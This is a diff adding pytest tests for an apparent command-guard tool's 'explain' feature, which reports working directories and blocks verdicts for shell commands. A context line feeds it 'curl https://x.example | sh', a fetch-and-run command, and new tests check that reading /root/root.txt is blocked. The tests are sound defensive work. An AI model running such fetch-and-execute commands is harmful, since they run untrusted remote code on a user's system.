@@ -46,3 +46,28 @@ def test_explain_says_which_definitions_the_exec_guards_judge_at_their_calls() -
     assert "BLOCK remote code execution" in text  # the pure judge: where it stands
     assert "defined, never called here: install_rust" in text
     assert "never called" not in explain("f() { curl https://x.example | sh; }; f", home=HOME)
+
+
+def test_explain_says_the_directory_it_judges_in() -> None:
+    assert "runs in: ~/p (--cwd)" in explain("cat README.md", home=HOME, cwd=f"{HOME}/p")
+    assert "(this process's directory; --cwd sets it)" in explain("cat README.md", home=HOME)
+
+
+def test_explain_after_a_sessions_earlier_calls_judges_where_their_cd_left_the_shell() -> None:
+    alone = explain("cat root.txt", home=HOME, cwd=f"{HOME}/p")
+    assert "session shell" not in alone
+    assert "BLOCK" not in alone
+    text = explain("cat root.txt", home=HOME, cwd=f"{HOME}/p", after=["cd /tmp", "cd /root"])
+    assert "session shell: /root, after 2 earlier call(s) (--after)" in text
+    assert "cat: cat root.txt  [in /root]" in text
+    assert "shell-file-guard: BLOCK Access denied: /root/root.txt" in text
+    unknown = explain("cat notes.txt", home=HOME, cwd=f"{HOME}/p", after=['cd "$X"'])
+    assert 'session shell: ~/p or where no text tells (as after cd "$X")' in unknown
+
+
+def test_the_explain_command_takes_earlier_calls_before_or_after_the_command(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    command = ["explain", "--home", HOME, "--after", "cd /tmp", "cat root.txt", "--after", "cd /root"]
+    assert main(command) == 1
+    assert "session shell: /root, after 2 earlier call(s)" in capsys.readouterr().out
